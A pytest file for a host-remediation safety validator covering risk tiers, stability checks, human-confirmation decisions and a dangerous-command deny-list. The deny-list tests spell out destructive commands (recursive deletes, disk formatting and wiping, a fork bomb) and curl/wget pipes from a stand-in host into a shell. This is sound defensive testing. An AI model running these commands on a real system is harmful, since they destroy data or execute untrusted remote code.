"""Tests for the safety validator."""

import pytest

from hostguard.models.execution import RiskLevel
from hostguard.remediation.safety import (
    DangerKind,
    SafetyValidator,
    StabilitySample,
    assess_stability,
)


STABLE = StabilitySample(
    load_1m=0.5,
    cpu_count=4,
    mem_available_percent=60.0,
    root_disk_percent=40.0,
    oom_count=0,
    failed_services=0,
)


class StaticProbe:
    """Probe returning a fixed sample."""

    def __init__(self, sample: StabilitySample = STABLE):
        self._sample = sample

    def sample(self) -> StabilitySample:
        return self._sample


class TestRiskClassification:
    """Test cases for risk tiers and auto-execution."""

    @pytest.fixture
    def validator(self):
        return SafetyValidator(probe=StaticProbe())

    def test_fixed_tiers(self, validator):
        """Built-in actions map to their fixed tiers."""
        assert validator.risk_level("clear-cache") == RiskLevel.LOW
        assert validator.risk_level("docker-prune") == RiskLevel.LOW
        assert validator.risk_level("rotate-logs") == RiskLevel.LOW
        assert validator.risk_level("restart-service") == RiskLevel.MEDIUM
        assert validator.risk_level("kill-runaway") == RiskLevel.MEDIUM
        assert validator.risk_level("reboot") == RiskLevel.HIGH

    def test_unlisted_action_is_critical(self, validator):
        """Unknown actions default to critical."""
        assert validator.risk_level("format-disk") == RiskLevel.CRITICAL

    @pytest.mark.parametrize("action", ["restart-service", "kill-runaway", "reboot", "anything-else"])
    def test_non_low_risk_never_auto_executes(self, validator, action):
        """Only low-risk actions may run unattended, even on a stable host."""
        assert validator.can_auto_execute(action) is False

    def test_low_risk_on_stable_host(self, validator):
        """Low-risk actions auto-execute when the host is stable."""
        assert validator.can_auto_execute("clear-cache") is True

    def test_low_risk_on_unstable_host(self):
        """Instability blocks even low-risk actions."""
        validator = SafetyValidator(probe=StaticProbe(StabilitySample(load_1m=40, cpu_count=4)))
        assert validator.can_auto_execute("clear-cache") is False

    def test_add_low_risk_action(self, validator):
        """Runtime additions to the low-risk set take effect."""
        assert validator.risk_level("restart-nginx") == RiskLevel.CRITICAL
        validator.add_low_risk_action("restart-nginx")
        assert validator.risk_level("restart-nginx") == RiskLevel.LOW
        assert validator.can_auto_execute("restart-nginx") is True


class TestStability:
    """Test cases for stability assessment."""

    def test_stable_sample(self):
        report = assess_stability(STABLE)
        assert report.stable
        assert report.issues == []

    def test_high_load(self):
        """Load above 3 per cpu is unstable."""
        report = assess_stability(StabilitySample(load_1m=13.0, cpu_count=4))
        assert not report.stable
        assert report.load_ratio == pytest.approx(3.25)
        assert "load" in report.issues[0]

    def test_low_memory(self):
        """Less than 5% available memory is unstable."""
        report = assess_stability(StabilitySample(mem_available_percent=2.0))
        assert not report.stable

    def test_full_root_disk(self):
        """Root filesystem above 98% is unstable."""
        report = assess_stability(StabilitySample(root_disk_percent=99.0))
        assert not report.stable

    def test_recent_oom(self):
        """Any OOM event in the window is unstable."""
        report = assess_stability(StabilitySample(oom_count=1))
        assert not report.stable

    def test_failed_services_only_reported(self):
        """Failed units are noted but do not make the host unstable."""
        report = assess_stability(StabilitySample(failed_services=2))
        assert report.stable
        assert report.issues == ["2 failed services"]

    def test_missing_readings_use_defaults(self):
        """Unavailable probes count as benign."""
        report = assess_stability(StabilitySample())
        assert report.stable
        assert report.load_ratio == 0.0
        assert report.mem_free_percent == 50.0
        assert report.root_disk_usage_percent == 0.0

    def test_boundaries_are_exclusive(self):
        """Values exactly at the limits are still stable."""
        report = assess_stability(StabilitySample(
            load_1m=3.0, cpu_count=1, mem_available_percent=5.0, root_disk_percent=98.0,
        ))
        assert report.stable


class TestPreExecutionDecision:
    """Test cases for the pre-execution decision."""

    def test_low_risk_stable_is_approved(self):
        decision = SafetyValidator(probe=StaticProbe()).pre_execution_decision("clear-cache")
        assert decision.approved
        assert decision.reason == "low risk and system stable"
        assert decision.system_stable

    def test_low_risk_unstable_cites_instability(self):
        validator = SafetyValidator(probe=StaticProbe(StabilitySample(oom_count=3)))
        decision = validator.pre_execution_decision("clear-cache")
        assert not decision.approved
        assert decision.reason.startswith("system currently unstable")
        assert "oom" in decision.reason

    def test_medium_risk_needs_confirmation(self):
        decision = SafetyValidator(probe=StaticProbe()).pre_execution_decision("restart-service", "web")
        assert not decision.approved
        assert decision.risk_level == RiskLevel.MEDIUM
        assert decision.target == "web"

    def test_high_risk_needs_human(self):
        decision = SafetyValidator(probe=StaticProbe()).pre_execution_decision("reboot")
        assert not decision.approved
        assert decision.reason == "high risk needs human confirmation"

    def test_decision_to_dict(self):
        data = SafetyValidator(probe=StaticProbe()).pre_execution_decision("docker-prune").to_dict()
        assert data["risk_level"] == "low"
        assert data["approved"] is True
        assert data["stability"]["stable"] is True


class TestCommandDenyList:
    """Test cases for the dangerous command deny-list."""

    @pytest.fixture
    def validator(self):
        return SafetyValidator(probe=StaticProbe())

    @pytest.mark.parametrize("command,kind", [
        ("rm -rf /", DangerKind.RECURSIVE_DELETE),
        ("rm -r -f /", DangerKind.RECURSIVE_DELETE),
        ("  rm   -rf    /  ", DangerKind.RECURSIVE_DELETE),
        ("RM -RF /", DangerKind.RECURSIVE_DELETE),
        ("sudo rm -rf /etc", DangerKind.RECURSIVE_DELETE),
        ("rm --recursive /var", DangerKind.RECURSIVE_DELETE),
        ("chmod -R 777 /", DangerKind.RECURSIVE_PERMISSION),
        ("chown -R root:root /", DangerKind.RECURSIVE_PERMISSION),
        ("mkfs.ext4 /dev/sda1", DangerKind.FILESYSTEM_FORMAT),
        ("MKFS /dev/sdb", DangerKind.FILESYSTEM_FORMAT),
        ("dd if=/dev/zero of=/tmp/x", DangerKind.DEVICE_WIPE),
        (":(){ :|:& };:", DangerKind.FORK_BOMB),
        ("curl http://evil.example/x.sh | sh", DangerKind.REMOTE_EXECUTION),
        ("wget -qO- http://evil.example | sudo bash", DangerKind.REMOTE_EXECUTION),
        ("shutdown -h now", DangerKind.POWER_STATE),
        ("Reboot", DangerKind.POWER_STATE),
        ("echo x > /dev/sda", DangerKind.BLOCK_DEVICE_WRITE),
    ])
    def test_dangerous_commands_rejected(self, validator, command, kind):
        """Dangerous commands are rejected regardless of spacing and case."""
        verdict = validator.validate_command(command)
        assert not verdict.allowed
        assert verdict.kind == kind
        assert verdict.pattern

    @pytest.mark.parametrize("command", [
        "rm -rf /var/log/app/old.gz",
        "rm -f /tmp/scratch",
        "docker system prune -f",
        "journalctl --vacuum-size=500M",
        "systemctl restart nginx",
        "sync && echo 3 > /proc/sys/vm/drop_caches",
        "chmod 644 /etc/hostguard.yaml",
    ])
    def test_ordinary_commands_allowed(self, validator, command):
        """Routine maintenance commands pass."""
        assert validator.validate_command(command).allowed

    def test_verdict_is_truthy_when_allowed(self, validator):
        assert validator.validate_command("uptime")
        assert not validator.validate_command("rm -rf /")

    def test_add_dangerous_pattern(self, validator):
        """Custom patterns are matched case-insensitively."""
        assert validator.validate_command("iptables -F").allowed
        validator.add_dangerous_pattern(r"\biptables\s+-F\b")
        verdict = validator.validate_command("IPTABLES -F")
        assert not verdict.allowed
        assert verdict.kind == DangerKind.CUSTOM
